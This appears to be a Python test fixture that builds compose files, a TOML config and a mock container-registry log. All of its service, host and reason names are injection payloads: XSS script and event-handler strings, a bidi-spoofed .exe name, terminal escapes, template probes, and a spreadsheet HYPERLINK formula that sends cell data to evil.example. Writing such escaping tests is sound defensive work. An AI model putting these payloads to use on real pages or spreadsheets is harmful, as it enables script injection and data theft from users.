"""Real files with names that attack a page: services, folders, hosts, reasons, and what a registry answers."""

import json
from base64 import b64encode
from pathlib import Path

from planner.model import media_type as mt
from planner.model.manifest import digest_of

RUN = "globalThis.owned = 1; document.title = 'owned'"
REGISTRY = "registry.evil.example"
NAMES = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><!--<script>{RUN}//",
    f'"><img src=x onerror="{RUN}">',
    f"' autofocus onfocus='{RUN}' x='",
    f'</style></title></textarea><svg onload="{RUN}">',
    f"javascript:{RUN}",
    "\u202egnp.exe\u2066\u200f",
    "\x1b]0;owned\x07\x1b[31mred",
    "one\nline\r\ntwo",
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "{{7*7}} {% raw %} ${7*7}",
    "&lt;b&gt; &amp;amp; &#x3c;",
    "x" * 10_000,
)


def write(folder: Path) -> Path:
    """A tree with each name in each place that can have it, and its recorded registry; returns the latter."""
    recorded = folder / "registry.jsonl"
    with recorded.open("w") as registry:
        for number, name in enumerate(NAMES):
            image, answer = _image(number, name)
            registry.write(json.dumps({"reference": image, **answer}) + "\n")
            _compose(folder / "tree" / f"{number:02}" / name.replace("/", "|")[:200], name, image)
    hosts = [f'[[hosts]]\nname = {json.dumps(name)}\nengine = "docker 20.10.24"\ntarget = "29.0.0"\n' for name in NAMES]
    accepted = f'[[ignore]]\npath = "02/**"\nreason = {json.dumps(NAMES[0])}\nowner = {json.dumps(NAMES[3])}\n'
    (folder / "tree" / "planner.toml").write_text("\n".join((*hosts, accepted)))
    (folder / "tree" / "broken.yml").write_text(f"a: [{NAMES[1]}\nimage: x@sha256:{1:064x}\n")
    return recorded


def _compose(folder: Path, name: str, image: str) -> None:
    folder.mkdir(parents=True)
    (folder / "compose.yml").write_text(f"services:\n  {json.dumps(name)}:\n    image: {image}\n")


def _image(number: int, name: str) -> tuple[str, dict[str, object]]:
    """What is pinned, and what the registry says: no, in the words of the name, or a manifest that has the name."""
    if number % 3:
        image = f"{REGISTRY}/app-{number}@sha256:{number:064x}"
        return image, {"state": ("denied", "missing")[number % 2], "detail": name}
    config = {"mediaType": mt.OCI_CONFIG, "digest": f"sha256:{1:064x}", "size": 2}
    layer = {"mediaType": name[:200], "digest": f"sha256:{2:064x}", "size": 2}
    manifest = {"schemaVersion": 2, "mediaType": mt.OCI_MANIFEST, "config": config, "layers": [layer]}
    body = json.dumps(manifest).encode()
    said = {"state": "resolved", "status": 200, "content_type": mt.OCI_MANIFEST, "body": b64encode(body).decode()}
    return f"{REGISTRY}/app-{number}@{digest_of(body)}", said
